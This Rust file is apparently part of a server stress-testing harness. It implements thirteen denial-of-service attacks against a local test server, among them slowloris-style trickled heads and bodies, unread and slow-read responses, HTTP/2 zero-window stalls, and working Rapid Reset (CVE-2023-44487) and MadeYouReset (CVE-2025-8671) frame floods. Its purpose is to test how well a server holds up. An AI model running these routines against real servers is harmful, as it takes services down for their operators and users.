//! The attacks. Each goes on until its runtime is dropped; whoever is sent away comes again.

use std::future::Future;
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;
use std::pin::Pin;
use std::time::Duration;

use adit_testkit::frames::{
    ACK, DATA, END_STREAM, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    head, setting, take,
};
use adit_testkit::visitor::Visitor;
use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

const HOST: &str = "localhost";
/// How long someone who was sent away waits before he comes again.
const AGAIN: Duration = Duration::from_millis(200);

type Stream = TlsStream<TcpStream>;
type Attacking = Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

/// An attack on a server.
pub(super) struct Case {
    pub(super) name: &'static str,
    pub(super) what: &'static str,
    /// Whether servers compress.
    pub(super) is_compressed: bool,
    /// How many do this at the same time, and from how many addresses.
    crowd: (u16, u16),
    each: fn(Visitor) -> Attacking,
}

const fn case(
    name: &'static str,
    what: &'static str,
    crowd: (u16, u16),
    each: fn(Visitor) -> Attacking,
) -> Case {
    Case { name, what, is_compressed: false, crowd, each }
}

/// All of them.
pub(super) const CASES: [Case; 13] = [
    case(
        "zero windows",
        "Two HTTP/2 connections with a window of 0, which answer PINGs, 120 GETs of 16 MiB on each.",
        (2, 1),
        |visitor| Box::pin(windows(visitor, 0, 120)),
    ),
    case(
        "one-byte windows",
        "Two HTTP/2 connections with a window of one byte, 100 GETs of 16 MiB on each; each byte is followed by a window of one more.",
        (2, 1),
        |visitor| Box::pin(windows(visitor, 1, 100)),
    ),
    case(
        "readers that never read",
        "300 GETs of 16 MiB on HTTP/1.1 from 30 addresses; nobody reads.",
        (300, 30),
        |visitor| Box::pin(unread(visitor, "GET /16m HTTP/1.1\r\nHost: localhost\r\n\r\n")),
    ),
    case(
        "slow readers",
        "200 GETs of 16 MiB on HTTP/1.1 from 20 addresses, read at 20 kB/s.",
        (200, 20),
        |visitor| Box::pin(slow_reader(visitor)),
    ),
    Case {
        name: "compressed and unread",
        what: "200 GETs of 4 MiB that are compressed on the way, on HTTP/1.1 from 20 addresses; nobody reads.",
        is_compressed: true,
        crowd: (200, 20),
        each: |visitor| {
            let head = "GET /4m HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: gzip\r\n\r\n";
            Box::pin(unread(visitor, head))
        },
    },
    case(
        "uploads that the origin does not read",
        "300 uploads on HTTP/1.1 from 30 addresses, as fast as they are taken.",
        (300, 30),
        |visitor| Box::pin(upload(visitor)),
    ),
    case(
        "slow bodies",
        "1500 uploads on HTTP/1.1 from one address, a byte each two seconds.",
        (1500, 1),
        |visitor| {
            let head = "POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n";
            Box::pin(trickle(visitor, head, Duration::from_secs(2)))
        },
    ),
    case(
        "slow heads",
        "1500 requests on HTTP/1.1 from 15 addresses, a byte of the head each second.",
        (1500, 15),
        |visitor| {
            let head = "GET /1k HTTP/1.1\r\nHost: localhost\r\nX-Long: ";
            Box::pin(trickle(visitor, head, Duration::from_secs(1)))
        },
    ),
    case(
        "idle connections",
        "4000 connections from 40 addresses that have shaken hands and say nothing.",
        (4000, 40),
        |visitor| Box::pin(unread(visitor, "")),
    ),
    case(
        "rapid reset",
        "Two HTTP/2 connections, a hundred requests each 10 ms, each reset at once (CVE-2023-44487).",
        (2, 1),
        |visitor| Box::pin(resets(visitor, Reset::Ours)),
    ),
    case(
        "rapid reset, many addresses",
        "The same from 50 addresses, ten requests each 10 ms.",
        (50, 50),
        |visitor| Box::pin(resets(visitor, Reset::OursSlowly)),
    ),
    case(
        "MadeYouReset",
        "Two HTTP/2 connections, a hundred requests each 10 ms; a wrong frame makes the server reset each (CVE-2025-8671).",
        (2, 1),
        |visitor| Box::pin(resets(visitor, Reset::Theirs)),
    ),
    case(
        "a crowd that comes and goes",
        "5000 visitors from 500 addresses, who ask for a page, wait until the others are there, leave, and come again.",
        (5000, 500),
        |visitor| Box::pin(come_and_go(visitor)),
    ),
];

/// Whom to attack.
pub(super) struct Target {
    visitor: Visitor,
}

impl Target {
    pub(super) fn new(port: u16, certificate: &Path) -> Self {
        Self { visitor: Visitor::new(SocketAddr::from(([127, 0, 0, 1], port)), certificate) }
    }

    /// One who does not belong to the attack.
    pub(super) fn good(&self) -> Visitor {
        self.visitor.clone().from_address(IpAddr::V4(Ipv4Addr::new(127, 0, 0, 77)))
    }

    fn bad(&self, number: u16) -> Visitor {
        let [high, low] = number.to_be_bytes();
        self.visitor.clone().from_address(IpAddr::V4(Ipv4Addr::new(127, 1, high, low)))
    }
}

/// Starts all attackers.
pub(super) fn start(case: &Case, target: &Target) -> Result<tokio::runtime::Runtime> {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
    let (count, addresses) = case.crowd;
    for number in 0..count {
        let (visitor, each) = (target.bad(number % addresses), case.each);
        runtime.spawn(async move {
            loop {
                // However it ends, it begins again.
                drop(each(visitor.clone()).await);
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
    Ok(runtime)
}

/// Says something and then only holds the connection.
async fn unread(visitor: Visitor, head: &str) -> io::Result<()> {
    let mut stream = visitor.raw(HOST).await?;
    stream.write_all(head.as_bytes()).await?;
    stream.flush().await?;
    is_gone(&stream).await
}

/// Waits until the other side has closed, without reading.
async fn is_gone(stream: &Stream) -> io::Result<()> {
    let socket = stream.get_ref().0;
    loop {
        tokio::time::sleep(AGAIN).await;
        if socket.ready(tokio::io::Interest::READABLE).await?.is_read_closed() {
            return Ok(());
        }
    }
}

async fn slow_reader(visitor: Visitor) -> io::Result<()> {
    let mut stream = visitor.raw(HOST).await?;
    stream.write_all(b"GET /16m HTTP/1.1\r\nHost: localhost\r\n\r\n").await?;
    stream.flush().await?;
    let mut piece = vec![0; 2000];
    while stream.read_exact(&mut piece).await.is_ok() {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Ok(())
}

async fn upload(visitor: Visitor) -> io::Result<()> {
    let mut stream = visitor.raw(HOST).await?;
    stream.write_all(b"POST /held HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n").await?;
    let piece = vec![b'x'; 16 * 1024];
    loop {
        stream.write_all(&piece).await?;
    }
}

async fn trickle(visitor: Visitor, head: &str, every: Duration) -> io::Result<()> {
    let mut stream = visitor.raw(HOST).await?;
    stream.write_all(head.as_bytes()).await?;
    loop {
        stream.write_all(b"x").await?;
        stream.flush().await?;
        tokio::time::sleep(every).await;
    }
}

async fn come_and_go(visitor: Visitor) -> io::Result<()> {
    let mut stream = visitor.raw(HOST).await?;
    stream.write_all(b"GET /1k HTTP/1.1\r\nHost: localhost\r\n\r\n").await?;
    stream.flush().await?;
    let mut answer = vec![0; 1024];
    stream.read_exact(&mut answer).await?;
    tokio::time::sleep(Duration::from_secs(3)).await;
    Ok(())
}

fn request(stream: u32, method: &[u8], path: &[u8], end: u8, out: &mut Vec<u8>) {
    let fields: [(&[u8], &[u8]); 4] =
        [(b":method", method), (b":scheme", b"https"), (b":authority", HOST.as_bytes()), (b":path", path)];
    head(stream, fields, end, out);
}

/// Asks on many streams with a small window, and gives each as much again as has come.
async fn windows(visitor: Visitor, window: u32, streams: u32) -> io::Result<()> {
    let mut stream = visitor.http2().raw(HOST).await?;
    let mut out = PREFACE.to_vec();
    setting(INITIAL_WINDOW_SIZE, window, &mut out);
    for number in 0..streams {
        request(number * 2 + 1, b"GET", b"/16m", END_STREAM, &mut out);
    }
    stream.write_all(&out).await?;
    stream.flush().await?;
    answering(stream, |id, length, out| {
        if length > 0 {
            for stream in [0, id] {
                frame(WINDOW_UPDATE, 0, stream, &length.to_be_bytes(), out);
            }
        }
    })
    .await
}

/// Reads frames, answers those that want an answer, and says more where data comes.
async fn answering(mut stream: Stream, data: fn(u32, u32, &mut Vec<u8>)) -> io::Result<()> {
    let mut buffer = Vec::new();
    loop {
        if stream.read_buf(&mut buffer).await? == 0 {
            return Ok(());
        }
        let mut out = Vec::new();
        while let Some(came) = take(&mut buffer) {
            match came.kind {
                SETTINGS | PING if came.flags & ACK == 0 => {
                    let payload: &[u8] = if came.kind == PING { &came.payload } else { &[] };
                    frame(came.kind, ACK, 0, payload, &mut out);
                }
                DATA => data(came.stream, came.payload.len() as u32, &mut out),
                _ => {}
            }
        }
        stream.write_all(&out).await?;
        stream.flush().await?;
    }
}

#[derive(Clone, Copy, Debug)]
enum Reset {
    /// The visitor resets.
    Ours,
    /// The same, a tenth as often.
    OursSlowly,
    /// The server has to.
    Theirs,
}

/// Requests that are over before they are answered.
async fn resets(visitor: Visitor, by: Reset) -> io::Result<()> {
    let stream = visitor.http2().raw(HOST).await?;
    let (mut read, mut write) = tokio::io::split(stream);
    let mut out = PREFACE.to_vec();
    frame(SETTINGS, 0, 0, &[], &mut out);
    let reading = async {
        let mut buffer = vec![0; 16 * 1024];
        while read.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let batch = if matches!(by, Reset::OursSlowly) { 10 } else { 100 };
    let writing = async {
        let mut id = 1;
        loop {
            for _ in 0..batch {
                request(id, b"GET", b"/held", END_STREAM, &mut out);
                match by {
                    Reset::Ours | Reset::OursSlowly => {
                        frame(RST_STREAM, 0, id, &8_u32.to_be_bytes(), &mut out);
                    }
                    // An increment of 0 is an error of the stream (RFC 9113, section 6.9).
                    Reset::Theirs => frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes(), &mut out),
                }
                id += 2;
            }
            write.write_all(&out).await?;
            write.flush().await?;
            out.clear();
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    tokio::select! {
        ended = reading => ended,
        ended = writing => ended,
    }
}
